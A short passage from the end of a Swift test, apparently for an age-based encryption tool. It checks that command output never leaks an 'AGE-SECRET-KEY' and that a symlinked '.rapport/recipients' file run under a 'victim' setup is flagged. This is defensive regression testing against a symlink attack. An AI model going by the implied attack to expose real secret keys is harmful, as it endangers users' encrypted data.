            #expect(!(result.stdout + result.stderr).uppercased().contains("AGE-SECRET-KEY"), "\(arguments): \(result)")
        }
        #expect(victim("check").stdout.contains(".rapport/recipients:1: a symbolic link"))
    }
}
